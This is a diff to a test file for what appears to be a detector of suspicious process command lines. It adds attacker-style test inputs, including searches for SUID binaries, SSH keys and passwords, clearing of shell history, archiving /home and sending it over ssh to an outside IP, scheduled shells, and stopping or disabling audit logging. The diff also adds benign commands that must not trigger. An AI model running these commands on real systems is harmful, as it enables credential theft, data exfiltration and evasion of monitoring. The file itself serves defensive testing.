@@ -65,6 +65,18 @@ const HOLDS: [FactName, Behavior][] = [
     'ArgumentMemory',
     run('/usr/bin/perl', 'perl', '-e', 'my $n="";my $fd=syscall(319,$n,1);exec{"/proc/$$/fd/$fd"}"x"'),
   ],
+  ['ArgumentSearches', tool('find / -perm -4000 -type f')],
+  ['ArgumentSearches', tool('find / -perm -u=s')],
+  ['ArgumentSearches', tool('find /home -name id_rsa')],
+  ['ArgumentSearches', tool('grep -ri password /etc')],
+  ['ArgumentSearches', tool('cat /root/.bash_history')],
+  ['ArgumentTraces', sh('cat /dev/null > ~/.bash_history')],
+  ['ArgumentUploads', sh('tar czpf - /home | ssh eve@198.51.100.7 "cat > h.tgz"')],
+  ['ArgumentPersistence', tool('at now + 1 minute')],
+  ['ArgumentPersistence', tool('systemd-run --on-calendar *:0/1 /bin/sh')],
+  ['ArgumentDefenses', tool('systemctl stop systemd-journald')],
+  ['ArgumentDefenses', sh("sed -i 's/yes/no/' /etc/audit/auditd.conf")],
+  ['ArgumentStages', tool('zip --password x /home/user/a.zip work')],
   ['ScriptTemporary', run('/usr/bin/python3.11', 'python3', '/tmp/x.py')],
   ['ScriptHidden', run('/usr/bin/bash', 'bash', '.cache/x.sh')],
   ['WorkingFolderHidden', { ...tool('id'), process: { ...tool('id').process, cwd: '/var/tmp/.x' } }],
@@ -91,6 +103,10 @@ const ORDINARY: Behavior[] = [
   tool('rsync -a work/ backup/'),
   tool('modprobe overlay'),
   tool('nc -z -w 1 db 5432'),
+  tool('find . -name *.ts -perm 644'),
+  tool('find /srv -name cache -type d'),
+  tool('grep -rn TODO src'),
+  tool('cat /etc/os-release'),
   sh('make all 2>&1 | tee build.log'),
   sh('git log | head'),
   sh('curl -s http://x.example/list | grep ok'),
@@ -100,7 +116,7 @@ const ORDINARY: Behavior[] = [
 
 test.each(ORDINARY)('ordinary: $process.commandLine', (behavior) => {
   const telling = trueFacts(behavior).filter((fact) =>
-    /^Argument(?:Pipes|Downloads|Remote|Preload|Kernel|SetId|Stages|Uploads|Accounts|Defenses|Attributes|Memory)/.test(
+    /^Argument(?:Pipes|Downloads|Remote|Preload|Kernel|SetId|Stages|Uploads|Accounts|Defenses|Attributes|Memory|Searches)/.test(
       fact,
     ),
   );
